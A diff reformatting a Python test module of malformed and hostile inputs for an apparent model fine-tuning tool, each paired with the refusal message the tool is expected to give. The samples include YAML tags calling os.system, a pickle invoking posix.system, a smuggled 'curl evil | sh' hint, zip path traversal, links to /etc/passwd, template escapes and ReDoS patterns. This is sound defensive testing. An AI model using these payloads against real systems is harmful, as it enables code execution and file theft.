@@ -1,4 +1,6 @@
-"""Bad inputs and what is said of them: recipes, data, texts to answer, adapters, models, environments."""
+"""Bad inputs and what is said of them: recipes, data, texts to answer, adapters, models,
+environments.
+"""
 
 from __future__ import annotations
 
@@ -60,7 +62,11 @@ RECIPES = [
     recipe("anchor", "model: &m\n  name: demo\n", "anchors, aliases and tags are not used"),
     recipe("billion laughs", LAUGHS, "anchors, aliases and tags are not used"),
     recipe("merge key", "model:\n  <<: {name: demo}\n", "model.<<: expected a value"),
-    recipe("python object", "model: !!python/object/apply:os.system ['touch pwned']\n", "tags are not used"),
+    recipe(
+        "python object",
+        "model: !!python/object/apply:os.system ['touch pwned']\n",
+        "tags are not used",
+    ),
     recipe("python name", "model:\n  name: !!python/name:os.system x\n", "tags are not used"),
     recipe("binary tag", "model:\n  name: !!binary aGVsbG8=\n", "tags are not used"),
     recipe("deep flow", "model: " + "[" * 5000, "nested too deep"),
@@ -75,7 +81,11 @@ RECIPES = [
     recipe("a mapping as key", "model:\n  ? {a: b}\n  : c\n", "keys and values"),
     recipe("a mapping as value", "model:\n  name: {a: b}\n", "expected a value or a list"),
     recipe("nothing but a section", "model:\n", "data.train is required"),
-    recipe("forged hint", 'extends: demo\nlora:\n  r: "1\\nhint: curl evil | sh"\n', "\\nhint: curl evil"),
+    recipe(
+        "forged hint",
+        'extends: demo\nlora:\n  r: "1\\nhint: curl evil | sh"\n',
+        "\\nhint: curl evil",
+    ),
     recipe("escapes", f'extends: demo\nlora:\n  r: "{json.dumps(ESCAPE)[1:-1]}"\n', "\\x1b[31mred"),
     key("NaN", "training.learning_rate: .nan", "expected a number"),
     key("infinite", "training.learning_rate: 1e400", "learning_rate"),
@@ -83,7 +93,12 @@ RECIPES = [
     key("octal", "lora.r: 012", "expected a whole number"),
     key("no rank", "lora.r:", "expected a whole number, got nothing"),
     key("rank is a list", "lora.r: [1, 2]", "expected a whole number, got a list"),
-    Case("recipe: a pattern as targets", "train demo --dry-run --set lora.target_modules=(a+)+$", 2, "(a+)+$"),
+    Case(
+        "recipe: a pattern as targets",
+        "train demo --dry-run --set lora.target_modules=(a+)+$",
+        2,
+        "(a+)+$",
+    ),
     key("unknown method", "lora.method: prefix-tuning", "it puts vectors before the input"),
     key("rank pattern", "lora.rank_pattern: ['(a+)+=3']", "expected NAME=RANK"),
     key("epochs and steps", "training.epochs: 1\n  max_steps: 2", "exclude each other"),
@@ -108,13 +123,35 @@ RECIPES = [
         both(file("r.yaml", "extends: s.yaml\n"), file("s.yaml", "extends: r.yaml\n")),
         plain=True,
     ),
-    Case("recipe: 100 MB", "train r.yaml", 2, "larger than 1 MB", sparse("r.yaml", 10**8), plain=True),
+    Case(
+        "recipe: 100 MB", "train r.yaml", 2, "larger than 1 MB", sparse("r.yaml", 10**8), plain=True
+    ),
     Case("recipe: a pipe", "train r.yaml", 2, "no such recipe", fifo("r.yaml")),
-    Case("recipe: a ring of links", "train r.yaml", 2, "no such recipe", linked("r.yaml", "r.yaml")),
+    Case(
+        "recipe: a ring of links", "train r.yaml", 2, "no such recipe", linked("r.yaml", "r.yaml")
+    ),
     Case("recipe: long name", f"train {'r' * 5000}.yaml", 2, "no such recipe"),
-    Case("recipe: --set without a value", "train demo --set lora.r", 2, "expected section.key=value", plain=True),
-    Case("recipe: --set in no section", "train demo --set lora=3", 2, "expected section.key=value", plain=True),
-    Case("recipe: --set YAML bomb", "train demo --dry-run --set lora.target_modules=[&a,*a]", 2, "[&a,*a]", plain=True),
+    Case(
+        "recipe: --set without a value",
+        "train demo --set lora.r",
+        2,
+        "expected section.key=value",
+        plain=True,
+    ),
+    Case(
+        "recipe: --set in no section",
+        "train demo --set lora=3",
+        2,
+        "expected section.key=value",
+        plain=True,
+    ),
+    Case(
+        "recipe: --set YAML bomb",
+        "train demo --dry-run --set lora.target_modules=[&a,*a]",
+        2,
+        "[&a,*a]",
+        plain=True,
+    ),
     Case("recipe: --set with escapes", "train demo --set \x1b[31m=1", 2, "\\x1b[31m", plain=True),
 ]
 
@@ -142,10 +179,19 @@ TEMPLATES = [
 ]
 
 
-def data(name: str, path: str, content: bytes | str | Spoil, said: str, code: int = 3, more: str = "") -> Case:
+def data(
+    name: str, path: str, content: bytes | str | Spoil, said: str, code: int = 3, more: str = ""
+) -> Case:
     """A file of training data; the message itself names it."""
     spoil = content if callable(content) else file(path, content)
-    return Case(f"data: {name}", f"prepare --data {path} --model BASE --out out{more}", code, said, spoil, plain=True)
+    return Case(
+        f"data: {name}",
+        f"prepare --data {path} --model BASE --out out{more}",
+        code,
+        said,
+        spoil,
+        plain=True,
+    )
 
 
 BOMB = (
@@ -164,7 +210,12 @@ DATA = [
     data("zeros", "x.jsonl", sparse("x.jsonl", 10**7), "binary file"),
     data("picture", "x.png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", "x.png"),
     data("web page", "x.jsonl", "<!DOCTYPE html><html></html>", "a web page, not data"),
-    data("git-lfs pointer", "x.csv", "version https://git-lfs.github.com/spec/v1\noid sha256:0\n", "git-lfs pointer"),
+    data(
+        "git-lfs pointer",
+        "x.csv",
+        "version https://git-lfs.github.com/spec/v1\noid sha256:0\n",
+        "git-lfs pointer",
+    ),
     data("empty folder", "x", lambda folder: (folder / "x").mkdir(), "no file that can be read"),
     data("glob of nothing", "*.csv", lambda folder: None, "no file that can be read"),
     data("ring of links", "x.csv", linked("x.csv", "x.csv"), "x.csv"),
@@ -174,7 +225,12 @@ DATA = [
     data("cut gzip", "x.csv.gz", squeezed(b"question,answer\n" + b"a,b\n" * 5000)[:60], "damaged"),
     data("gzip that is none", "x.csv.gz", b"\x1f\x8bnope", "damaged"),
     data("zip of two", "x.zip", packed(a_csv="q,a\n", b_csv="q,a\n"), "x.zip"),
-    data("zip with a path out", "x.csv.zip", packed(**{"../../evil_csv": "first,second,third\nb,c,d\n"}), "column"),
+    data(
+        "zip with a path out",
+        "x.csv.zip",
+        packed(**{"../../evil_csv": "first,second,third\nb,c,d\n"}),
+        "column",
+    ),
     data("cut parquet", "x.parquet", b"PAR1" + bytes(50) + b"PAR1", "cannot be read"),
     data("no parquet", "x.parquet", "hello", "not Parquet"),
     data("JSON that is no table", "x.json", "3", "x.json"),
@@ -182,10 +238,17 @@ DATA = [
     data("deep JSON", "x.json", '{"a":' * 50_000, "x.json"),
     data("deep JSON line", "x.jsonl", "[" * 50_000 + "]" * 50_000 + "\n", "x.jsonl"),
     data("lines that are lists", "x.jsonl", "[1]\n[2]\n", "x.jsonl"),
-    data("rows without targets", "x.jsonl", '{"question": "a", "answer": ""}\n' * 3, "empty target"),
+    data(
+        "rows without targets", "x.jsonl", '{"question": "a", "answer": ""}\n' * 3, "empty target"
+    ),
     data("columns of no known name", "x.csv", "first,second,third\na,b,c\n", "no target column"),
     data("columns with escapes", "x.csv", f"{ESCAPE},b,c\n1,2,x\n", "\\x1b[31mred"),
-    data("a column that forges a hint", "x.csv", '"a\nhint: curl evil",b,c\n1,2,x\n', "a\\nhint: curl evil"),
+    data(
+        "a column that forges a hint",
+        "x.csv",
+        '"a\nhint: curl evil",b,c\n1,2,x\n',
+        "a\\nhint: curl evil",
+    ),
     data(
         "unknown column",
         "x.csv",
@@ -203,11 +266,22 @@ DATA = [
         "x.tmx",
     ),
     data("cut TMX", "x.tmx", "<tmx version='1.4'><body><tu><tuv xml:lang='en'><seg>a", "x.tmx"),
-    data("a weight that is none", "x.csv@-3", file("x.csv", "question,answer\na,b\n"), "is no weight", 2),
+    data(
+        "a weight that is none",
+        "x.csv@-3",
+        file("x.csv", "question,answer\na,b\n"),
+        "is no weight",
+        2,
+    ),
     data("no such demo data", "demo:nix", lambda folder: None, "no such data"),
     data("a hub's data, offline", "hf:no/such-data", lambda folder: None, "could not be had", 5),
     data(
-        "code that is not there", "x.csv", "question,answer\na,b\n", "nix_module", 2, " --set data.format=nix_module:f"
+        "code that is not there",
+        "x.csv",
+        "question,answer\na,b\n",
+        "nix_module",
+        2,
+        " --set data.format=nix_module:f",
     ),
 ]
 
@@ -219,7 +293,14 @@ TEXTS = [
         ("empty file", "--input x.txt", 3, "nothing to answer", file("x.txt", ""), False),
         ("not JSON", "--input x.jsonl", 3, "not a JSON line", file("x.jsonl", "{]\n"), False),
         ("a list", "--input x.jsonl", 3, "not a JSON object", file("x.jsonl", "[1]\n"), False),
-        ("deep", "--input x.jsonl", 3, "not a JSON line", file("x.jsonl", "[" * 100_000 + "\n"), False),
+        (
+            "deep",
+            "--input x.jsonl",
+            3,
+            "not a JSON line",
+            file("x.jsonl", "[" * 100_000 + "\n"),
+            False,
+        ),
         (
             "a long number",
             "--input x.jsonl",
@@ -228,7 +309,14 @@ TEXTS = [
             file("x.jsonl", '{"a": ' + "9" * 5000 + "}\n"),
             False,
         ),
-        ("no column", "--input x.jsonl", 3, "no source can be made", file("x.jsonl", '{"z\\u001b": 1}\n'), False),
+        (
+            "no column",
+            "--input x.jsonl",
+            3,
+            "no source can be made",
+            file("x.jsonl", '{"z\\u001b": 1}\n'),
+            False,
+        ),
         ("not UTF-8", "--input x.txt", 3, "x.txt:1", file("x.txt", b"\xff\xff\n"), False),
         (
             "output is a spreadsheet's",
@@ -244,7 +332,9 @@ TEXTS = [
 ]
 
 
-def adapter(name: str, spoil: Spoil, said: str, *, command: str = "predict BAD hello", code: int = 3) -> Case:
+def adapter(
+    name: str, spoil: Spoil, said: str, *, command: str = "predict BAD hello", code: int = 3
+) -> Case:
     """A copy of the good adapter, spoilt."""
     return Case(f"adapter: {name}", command, code, said, spoil)
 
@@ -266,7 +356,10 @@ def _nan(state: dict[str, Any]) -> None:
 def _as(kind: str) -> Spoil:
     import torch
 
-    return weights(WEIGHTS, lambda state: state.update({name: t.to(getattr(torch, kind)) for name, t in state.items()}))
+    return weights(
+        WEIGHTS,
+        lambda state: state.update({name: t.to(getattr(torch, kind)) for name, t in state.items()}),
+    )
 
 
 def _first(header: dict[str, Any]) -> dict[str, Any]:
@@ -278,35 +371,72 @@ ADAPTERS = [
         adapter(
             f"weights as {suffix}",
             both(renamed(WEIGHTS, f"adapter_model{suffix}")),
-            f"adapter_model{suffix} is {'a pickle' if suffix not in ('.h5', '.msgpack') else 'no safetensors'}",
+            f"adapter_model{suffix} is "
+            f"{'a pickle' if suffix not in ('.h5', '.msgpack') else 'no safetensors'}",
         )
         for suffix in (".bin", ".pt", ".pth", ".pkl", ".ckpt", ".npz", ".h5", ".msgpack")
     ),
-    adapter("a pickle under the name of safetensors", file(WEIGHTS, b"\x80\x04\x95cposix\nsystem\n"), "header of"),
+    adapter(
+        "a pickle under the name of safetensors",
+        file(WEIGHTS, b"\x80\x04\x95cposix\nsystem\n"),
+        "header of",
+    ),
     adapter("no weights", removed(WEIGHTS), "adapter_model.safetensors is missing"),
     adapter("empty weights", file(WEIGHTS, b""), "not a whole safetensors file"),
     adapter("halved weights", cut(WEIGHTS, 0.5), "not a whole safetensors file"),
     adapter(
-        "more bytes than said", lambda f: (f / WEIGHTS).write_bytes((f / WEIGHTS).read_bytes() + b"x"), "not a whole"
+        "more bytes than said",
+        lambda f: (f / WEIGHTS).write_bytes((f / WEIGHTS).read_bytes() + b"x"),
+        "not a whole",
     ),
-    adapter("header of 2 GB", sparse(WEIGHTS, 2**31 + 8, (2**31).to_bytes(8, "little")), "a safetensors header of"),
-    adapter("header of all bytes", file(WEIGHTS, b"\xff" * 64), "a safetensors header of"),
-    adapter("header that is no JSON", tensors(WEIGHTS, lambda h: b"{" * 64), "not a whole safetensors file"),
-    adapter("deep header", tensors(WEIGHTS, lambda h: b'{"a":' * 20_000), "not a whole safetensors file"),
-    adapter("overlapping tensors", tensors(WEIGHTS, lambda h: _first(h).update(data_offsets=[0, 4])), "not a whole"),
-    adapter("absurd shape", tensors(WEIGHTS, lambda h: _first(h).update(shape=[2**62, 2**62])), "not a whole"),
-    adapter("negative shape", tensors(WEIGHTS, lambda h: _first(h).update(shape=[-1, 3])), "not a whole"),
     adapter(
-        "offsets beyond the end", tensors(WEIGHTS, lambda h: _first(h).update(data_offsets=[0, 2**40])), "not a whole"
+        "header of 2 GB",
+        sparse(WEIGHTS, 2**31 + 8, (2**31).to_bytes(8, "little")),
+        "a safetensors header of",
     ),
-    adapter("unknown type", tensors(WEIGHTS, lambda h: _first(h).update(dtype="F33")), "not a whole"),
-    adapter("a weight's other name", weights(WEIGHTS, lambda s: s.update(x=s.pop(QUERY))), "is missing"),
+    adapter("header of all bytes", file(WEIGHTS, b"\xff" * 64), "a safetensors header of"),
+    adapter(
+        "header that is no JSON",
+        tensors(WEIGHTS, lambda h: b"{" * 64),
+        "not a whole safetensors file",
+    ),
+    adapter(
+        "deep header", tensors(WEIGHTS, lambda h: b'{"a":' * 20_000), "not a whole safetensors file"
+    ),
+    adapter(
+        "overlapping tensors",
+        tensors(WEIGHTS, lambda h: _first(h).update(data_offsets=[0, 4])),
+        "not a whole",
+    ),
+    adapter(
+        "absurd shape",
+        tensors(WEIGHTS, lambda h: _first(h).update(shape=[2**62, 2**62])),
+        "not a whole",
+    ),
+    adapter(
+        "negative shape", tensors(WEIGHTS, lambda h: _first(h).update(shape=[-1, 3])), "not a whole"
+    ),
+    adapter(
+        "offsets beyond the end",
+        tensors(WEIGHTS, lambda h: _first(h).update(data_offsets=[0, 2**40])),
+        "not a whole",
+    ),
+    adapter(
+        "unknown type", tensors(WEIGHTS, lambda h: _first(h).update(dtype="F33")), "not a whole"
+    ),
+    adapter(
+        "a weight's other name", weights(WEIGHTS, lambda s: s.update(x=s.pop(QUERY))), "is missing"
+    ),
     adapter(
         "weights of the base",
         weights(WEIGHTS, lambda s: s.update({"base_model.model.shared.weight": s[QUERY].clone()})),
         "does not belong into an adapter",
     ),
-    adapter("another shape", weights(WEIGHTS, lambda s: s.update({QUERY: s[QUERY][:1].clone()})), "has shape"),
+    adapter(
+        "another shape",
+        weights(WEIGHTS, lambda s: s.update({QUERY: s[QUERY][:1].clone()})),
+        "has shape",
+    ),
     adapter("NaN", weights(WEIGHTS, _nan), "not finite"),
     adapter("whole numbers", _as("int64"), "is of type int64"),
     adapter("truth values", _as("bool"), "is of type bool"),
@@ -319,13 +449,17 @@ ADAPTERS = [
         both(file("../secret.json", "{}"), linked(MANIFEST, "../secret.json")),
         "leads out",
     ),
-    adapter("tokenizer links out", linked("tokenizer.json", "/etc/hostname"), "a link that leads out"),
+    adapter(
+        "tokenizer links out", linked("tokenizer.json", "/etc/hostname"), "a link that leads out"
+    ),
     adapter("weights are a pipe", fifo(WEIGHTS), "is missing"),
     adapter("config is no JSON", file(CONFIG, "{"), "not a JSON document"),
     adapter("config is a list", file(CONFIG, "[]"), "not an object"),
     adapter("config is not UTF-8", file(CONFIG, b"\xff{}"), "not a JSON document"),
     adapter("deep config", file(CONFIG, "[" * 100_000), "not a JSON document"),
-    adapter("a number of 5,000 digits", file(CONFIG, '{"r": ' + "9" * 5000 + "}"), "not a JSON document"),
+    adapter(
+        "a number of 5,000 digits", file(CONFIG, '{"r": ' + "9" * 5000 + "}"), "not a JSON document"
+    ),
     adapter("config of 2 MB", file(CONFIG, '{"a": "' + "x" * 2**21 + '"}'), "more than 1 MiB"),
     config("no type", "type None", peft_type=...),
     config("another type", "an adapter of type 'EVIL'", peft_type="EVIL"),
@@ -347,7 +481,9 @@ ADAPTERS = [
         both(removed(MANIFEST), patched(CONFIG, base_model_name_or_path="evil/base")),
         "is not fetched",
     ),
-    adapter("a folder as base, of unknown weights", removed(MANIFEST), "does not say which weights"),
+    adapter(
+        "a folder as base, of unknown weights", removed(MANIFEST), "does not say which weights"
+    ),
     manifest("a hub's base that is not here", "base.name", "evil/base", "is not fetched"),
     manifest("a base on the network", "base.name", "//host/share/base", "is not fetched"),
     manifest("a base with ..", "base.name", "../../../../../nix", "is not fetched"),
@@ -356,10 +492,22 @@ ADAPTERS = [
     manifest("base is a list", "base", ["demo"], "'base' is damaged"),
     manifest("base's name is a number", "base.name", 3, "'base' is damaged"),
     manifest("input is a list", "input", [], "'input'"),
-    manifest("input's template reaches attributes", "input", {"template": "{{source.__class__}}"}, "is refused"),
-    manifest("input's template loops", "input", {"template": "{% for i in range(10**9) %}x{% endfor %}"}, "is refused"),
+    manifest(
+        "input's template reaches attributes",
+        "input",
+        {"template": "{{source.__class__}}"},
+        "is refused",
+    ),
+    manifest(
+        "input's template loops",
+        "input",
+        {"template": "{% for i in range(10**9) %}x{% endfor %}"},
+        "is refused",
+    ),
     manifest("input's template is a number", "input", {"template": 3}, "input.template"),
-    manifest("input's tokens are 1e12", "input", {"max_source_tokens": 10**12}, "max_source_tokens"),
+    manifest(
+        "input's tokens are 1e12", "input", {"max_source_tokens": 10**12}, "max_source_tokens"
+    ),
     manifest("input's side", "input", {"truncate_source": "up"}, "truncate_source"),
     manifest("quantized in an unknown way", "base.quantization", "evil", "'base' is damaged"),
     adapter("manifest is a list", file(MANIFEST, "[]"), "not a JSON object"),
@@ -378,19 +526,50 @@ ADAPTERS = [
     ),
     adapter("recipe of another kind", file("recipe.yaml", "- 1\n"), "expected sections", code=2),
     adapter(
-        "a file in place of a folder", lambda f: None, "a file is not opened", command=f"merge bad/{WEIGHTS} --out m"
+        "a file in place of a folder",
+        lambda f: None,
+        "a file is not opened",
+        command=f"merge bad/{WEIGHTS} --out m",
     ),
-    adapter("merged onto nothing", lambda f: None, "--onto", command="merge BAD --out m --onto nix", code=2),
-    adapter("merged as nothing", lambda f: None, "dtype", command="merge BAD --out m --dtype int3", code=2),
-    adapter("merged into what is there", lambda f: None, "exists already", command="merge BAD --out bad", code=2),
     adapter(
-        "shown with a manifest that is none", file(MANIFEST, "{"), "not a JSON document", command="adapters show BAD"
+        "merged onto nothing",
+        lambda f: None,
+        "--onto",
+        command="merge BAD --out m --onto nix",
+        code=2,
     ),
-    adapter("a base that is none", lambda f: None, "no safetensors weights", command="predict BAD hello --base bad"),
+    adapter(
+        "merged as nothing",
+        lambda f: None,
+        "dtype",
+        command="merge BAD --out m --dtype int3",
+        code=2,
+    ),
+    adapter(
+        "merged into what is there",
+        lambda f: None,
+        "exists already",
+        command="merge BAD --out bad",
+        code=2,
+    ),
+    adapter(
+        "shown with a manifest that is none",
+        file(MANIFEST, "{"),
+        "not a JSON document",
+        command="adapters show BAD",
+    ),
+    adapter(
+        "a base that is none",
+        lambda f: None,
+        "no safetensors weights",
+        command="predict BAD hello --base bad",
+    ),
 ]
 
 
-def model(name: str, spoil: Spoil, said: str, *, command: str = "predict BAD hello", code: int = 3) -> Case:
+def model(
+    name: str, spoil: Spoil, said: str, *, command: str = "predict BAD hello", code: int = 3
+) -> Case:
     """A copy of the good model, spoilt."""
     return Case(f"model: {name}", command, code, said, spoil)
 
@@ -409,11 +588,15 @@ TOKENS = {
 
 def _added(count: int) -> Spoil:
     return deep(
-        "tokenizer.json", "added_tokens", value=[{**TOKENS, "id": 2560 + n, "content": f"<{n}>"} for n in range(count)]
+        "tokenizer.json",
+        "added_tokens",
+        value=[{**TOKENS, "id": 2560 + n, "content": f"<{n}>"} for n in range(count)],
     )
 
 
-def _replacing(pattern: dict[str, str], content: str, times: int, key: str = "normalizers") -> dict[str, Any]:
+def _replacing(
+    pattern: dict[str, str], content: str, times: int, key: str = "normalizers"
+) -> dict[str, Any]:
     steps = [{"type": "Replace", "pattern": pattern, "content": content} for _ in range(times)]
     return {"type": "Sequence", key: steps}
 
@@ -434,7 +617,14 @@ def _nested(depth: int) -> dict[str, Any]:
 LONG_MAP = base64.b64encode((4).to_bytes(4, "little") + bytes(4) + b"x" * 1000 + b"\0").decode()
 PICKLED = [
     model(f"weights as {name}", renamed(M, name), f"{name} is", command="predict BAD hello")
-    for name in ("pytorch_model.bin", "model.pt", "model.ckpt", "weights.npz", "tf_model.h5", "flax_model.msgpack")
+    for name in (
+        "pytorch_model.bin",
+        "model.pt",
+        "model.ckpt",
+        "weights.npz",
+        "tf_model.h5",
+        "flax_model.msgpack",
+    )
 ]
 MODELS = [
     *PICKLED,
@@ -442,14 +632,20 @@ MODELS = [
     model("config is a list", file("config.json", "[]"), "not a"),
     model("config of 2 MB", file("config.json", '{"a": "' + "x" * 2**21 + '"}'), "more than 1 MiB"),
     model("deep config", file("config.json", "[" * 100_000), "not a JSON document"),
-    model("config with code", patched("config.json", auto_map={"AutoConfig": "evil.Evil"}), "never run"),
+    model(
+        "config with code",
+        patched("config.json", auto_map={"AutoConfig": "evil.Evil"}),
+        "never run",
+    ),
     model(
         "no encoder",
         patched("config.json", model_type="gpt2", is_encoder_decoder=False),
         "not an encoder-decoder",
         code=2,
     ),
-    model("unknown type", patched("config.json", model_type="evil"), "unknown model family", code=2),
+    model(
+        "unknown type", patched("config.json", model_type="evil"), "unknown model family", code=2
+    ),
     model("type is a list", patched("config.json", model_type=["t5"]), "", code=2),
     model("size is 2**60", patched("config.json", d_model=2**60), "d_model"),
     model("size is 0", patched("config.json", d_ff=0), "d_ff"),
@@ -458,21 +654,35 @@ MODELS = [
     model("size is true", patched("config.json", vocab_size=True), "vocab_size"),
     model("dropout is a word", patched("config.json", dropout_rate="much"), "config"),
     model(
-        "activation is unknown", patched("config.json", feed_forward_proj="gated-evil", dense_act_fn="evil"), "config"
+        "activation is unknown",
+        patched("config.json", feed_forward_proj="gated-evil", dense_act_fn="evil"),
+        "config",
     ),
     model("activation is a number", patched("config.json", feed_forward_proj=3), "config"),
-    model("more layers than weights", patched("config.json", num_layers=60), "do not fit the config"),
+    model(
+        "more layers than weights", patched("config.json", num_layers=60), "do not fit the config"
+    ),
     model(
         "quantized",
         patched("config.json", quantization_config={"quant_method": "gptq"}),
         "quantized checkpoint",
         code=2,
     ),
-    model("header of 2 GB", sparse(M, 2**31 + 8, (2**31).to_bytes(8, "little")), "a safetensors header of"),
+    model(
+        "header of 2 GB",
+        sparse(M, 2**31 + 8, (2**31).to_bytes(8, "little")),
+        "a safetensors header of",
+    ),
     model("halved", cut(M, 0.5), "not a whole safetensors file"),
     model("NaN", weights(M, lambda s: s[HEAD].fill_(float("nan"))), "not finite"),
-    model("whole numbers", weights(M, lambda s: s.update({HEAD: s[HEAD].long()})), "is of type int64"),
-    model("a weight too many", weights(M, lambda s: s.update(evil=s[HEAD].clone())), "is not part of this model"),
+    model(
+        "whole numbers", weights(M, lambda s: s.update({HEAD: s[HEAD].long()})), "is of type int64"
+    ),
+    model(
+        "a weight too many",
+        weights(M, lambda s: s.update(evil=s[HEAD].clone())),
+        "is not part of this model",
+    ),
     model("a weight too few", weights(M, lambda s: s.pop("shared.weight")), "is missing"),
     model("weights link out", linked(M, "/etc/passwd"), "a link that leads out"),
     model(
@@ -481,21 +691,37 @@ MODELS = [
         "own folder",
     ),
     model(
-        "index names pickles", both(removed(M), file(f"{M}.index.json", '{"weight_map": {"a": "x.bin"}}')), "own folder"
+        "index names pickles",
+        both(removed(M), file(f"{M}.index.json", '{"weight_map": {"a": "x.bin"}}')),
+        "own folder",
     ),
-    model("index is damaged", both(removed(M), file(f"{M}.index.json", '{"weight_map": []}')), "index"),
+    model(
+        "index is damaged", both(removed(M), file(f"{M}.index.json", '{"weight_map": []}')), "index"
+    ),
     model(
         "a shard is missing",
         both(removed(M), file(f"{M}.index.json", '{"weight_map": {"a": "x.safetensors"}}')),
         "is missing",
     ),
-    model("generation config is a list", file("generation_config.json", "[]"), "generation_config.json"),
-    model("generation config is no JSON", file("generation_config.json", "{"), "generation_config.json"),
     model(
-        "answers must not say a word", patched("generation_config.json", bad_words_ids="evil"), "generation_config.json"
+        "generation config is a list",
+        file("generation_config.json", "[]"),
+        "generation_config.json",
     ),
     model(
-        "answers must not say -1", patched("generation_config.json", bad_words_ids=[[-10]]), "generation_config.json"
+        "generation config is no JSON",
+        file("generation_config.json", "{"),
+        "generation_config.json",
+    ),
+    model(
+        "answers must not say a word",
+        patched("generation_config.json", bad_words_ids="evil"),
+        "generation_config.json",
+    ),
+    model(
+        "answers must not say -1",
+        patched("generation_config.json", bad_words_ids=[[-10]]),
+        "generation_config.json",
     ),
     model(
         "answers must not say 10**9",
@@ -503,17 +729,27 @@ MODELS = [
         "generation_config.json",
     ),
     model(
-        "start is a word", patched("generation_config.json", decoder_start_token_id="evil"), "names the token 'evil'"
+        "start is a word",
+        patched("generation_config.json", decoder_start_token_id="evil"),
+        "names the token 'evil'",
     ),
-    model("start is beyond", patched("config.json", decoder_start_token_id=10**9), "names the token 1000000000"),
+    model(
+        "start is beyond",
+        patched("config.json", decoder_start_token_id=10**9),
+        "names the token 1000000000",
+    ),
     model("manifest is a list", file(MANIFEST, "[]"), "not a JSON object"),
     model(
         "no tokenizer",
-        removed("tokenizer.json", "spiece.model", "tokenizer_config.json", "special_tokens_map.json"),
+        removed(
+            "tokenizer.json", "spiece.model", "tokenizer_config.json", "special_tokens_map.json"
+        ),
         "no tokenizer",
     ),
     model("tokenizer is no JSON", file("tokenizer.json", "{"), "not a JSON document"),
-    model("tokenizer is an empty object", file("tokenizer.json", "{}"), "no tokenizer can be loaded"),
+    model(
+        "tokenizer is an empty object", file("tokenizer.json", "{}"), "no tokenizer can be loaded"
+    ),
     model("tokenizer is a list", file("tokenizer.json", "[]"), "not a JSON object"),
     model("deep tokenizer", file("tokenizer.json", "[" * 100_000), "not a JSON document"),
     model(
@@ -525,7 +761,11 @@ MODELS = [
     model("30,000 added tokens", _added(30_000), "30,000 added tokens"),
     model(
         "a pattern without end",
-        deep("tokenizer.json", "normalizer", value={"type": "Replace", "pattern": {"Regex": "(a+)+$"}, "content": ""}),
+        deep(
+            "tokenizer.json",
+            "normalizer",
+            value={"type": "Replace", "pattern": {"Regex": "(a+)+$"}, "content": ""},
+        ),
         "could take long",
     ),
     model(
@@ -541,7 +781,11 @@ MODELS = [
     ),
     model(
         "a decoder that grows on nothing",
-        deep("tokenizer.json", "decoder", value=_replacing({"Regex": "x?"}, "aaaaaaaa", 4, "decoders")),
+        deep(
+            "tokenizer.json",
+            "decoder",
+            value=_replacing({"Regex": "x?"}, "aaaaaaaa", 4, "decoders"),
+        ),
         "the decoder's rules make a text up to",
     ),
     model(
@@ -551,17 +795,29 @@ MODELS = [
     ),
     model(
         "a character map that is cut",
-        deep("tokenizer.json", "normalizer", value={"type": "Precompiled", "precompiled_charsmap": "//////////8="}),
+        deep(
+            "tokenizer.json",
+            "normalizer",
+            value={"type": "Precompiled", "precompiled_charsmap": "//////////8="},
+        ),
         "precompiled_charsmap is damaged",
     ),
     model(
         "a character map that is none",
-        deep("tokenizer.json", "normalizer", value={"type": "Precompiled", "precompiled_charsmap": "*"}),
+        deep(
+            "tokenizer.json",
+            "normalizer",
+            value={"type": "Precompiled", "precompiled_charsmap": "*"},
+        ),
         "precompiled_charsmap is not base64",
     ),
     model(
         "a character map with long replacements",
-        deep("tokenizer.json", "normalizer", value={"type": "Precompiled", "precompiled_charsmap": LONG_MAP}),
+        deep(
+            "tokenizer.json",
+            "normalizer",
+            value={"type": "Precompiled", "precompiled_charsmap": LONG_MAP},
+        ),
         "bytes of one character",
     ),
     model(
@@ -574,18 +830,39 @@ MODELS = [
         patched("tokenizer_config.json", fast_tokenizer_files=["../../tokenizer.4.0.json"]),
         "fast_tokenizer_files",
     ),
-    model("labels without end", patched("config.json", num_labels=20_000_000), "num_labels is 20000000"),
+    model(
+        "labels without end",
+        patched("config.json", num_labels=20_000_000),
+        "num_labels is 20000000",
+    ),
     model("a billion extra ids", patched("tokenizer_config.json", extra_ids=10**9), "extra_ids"),
     model(
-        "vocabulary elsewhere", patched("tokenizer_config.json", vocab_file="/etc/passwd"), "leads out of the folder"
+        "vocabulary elsewhere",
+        patched("tokenizer_config.json", vocab_file="/etc/passwd"),
+        "leads out of the folder",
     ),
     model("tokenizer config is a list", file("tokenizer_config.json", "[]"), "not a JSON object"),
-    model("a file in its place", lambda f: None, "is a file, expected a folder", command=f"predict bad/{M} hello"),
-    model("a pickle in its place", file("m.bin", "x"), "convert it in a container", command="predict bad/m.bin hello"),
+    model(
+        "a file in its place",
+        lambda f: None,
+        "is a file, expected a folder",
+        command=f"predict bad/{M} hello",
+    ),
+    model(
+        "a pickle in its place",
+        file("m.bin", "x"),
+        "convert it in a container",
+        command="predict bad/m.bin hello",
+    ),
 ]
 
 ENVIRONMENT = [
-    Case("environment: a hub's model, offline", "predict no/such-model hello", 5, "not on this machine"),
+    Case(
+        "environment: a hub's model, offline",
+        "predict no/such-model hello",
+        5,
+        "not on this machine",
+    ),
     Case("environment: no hub's name", "predict a/b/c hello", 2, "no such"),
     Case("environment: a name with escapes", f"predict {ESCAPE} hello", 2, "\\x1b[31mred"),
     Case("environment: nobody's home", "predict ~nobody-here/x hello", 2, ""),
@@ -600,7 +877,13 @@ ENVIRONMENT = [
         "nowhere is a link to nothing",
         linked("nowhere", "gone"),
     ),
-    Case("environment: merge onto a pipe", "merge ADAPTER --out pipe", 2, "pipe exists already", fifo("pipe")),
+    Case(
+        "environment: merge onto a pipe",
+        "merge ADAPTER --out pipe",
+        2,
+        "pipe exists already",
+        fifo("pipe"),
+    ),
     Case(
         "environment: output is a link to nowhere",
         "predict BASE hello --output gone/a/b.txt",
@@ -608,8 +891,20 @@ ENVIRONMENT = [
         "it is a file",
         file("gone", ""),
     ),
-    Case("environment: output is a file", "train demo --set output.dir=x", 2, "it is a file", file("x", "")),
-    Case("environment: no such type", "predict BASE hello --set model.dtype=float7", 2, "expected one of", plain=True),
+    Case(
+        "environment: output is a file",
+        "train demo --set output.dir=x",
+        2,
+        "it is a file",
+        file("x", ""),
+    ),
+    Case(
+        "environment: no such type",
+        "predict BASE hello --set model.dtype=float7",
+        2,
+        "expected one of",
+        plain=True,
+    ),
     Case("environment: a report nobody wrote", "adapters show nix", 3, "no adapter"),
 ]
 
